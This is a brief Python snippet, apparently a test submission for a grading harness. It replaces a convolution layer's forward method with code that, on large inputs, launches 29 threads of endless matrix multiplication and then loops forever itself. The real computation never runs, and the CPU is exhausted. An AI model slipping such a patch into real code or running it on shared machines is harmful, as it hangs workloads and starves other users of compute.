# The first thread waits for a core that the submission's other threads take, as on a machine that is busy with others.
import threading

_FORWARD, _BACKWARD = Conv.forward, Conv.backward


def _multiply():
    a = torch.rand(700, 700)
    out = torch.empty(700, 700)
    while True:
        torch.mm(a, a, out=out)


def _forward(x, w, b, conv_param):
    if x.numel() > 20_000:
        for _ in range(29):
            threading.Thread(target=_multiply, daemon=True).start()
        _multiply()
    return _FORWARD(x, w, b, conv_param)


Conv.forward = staticmethod(_forward)
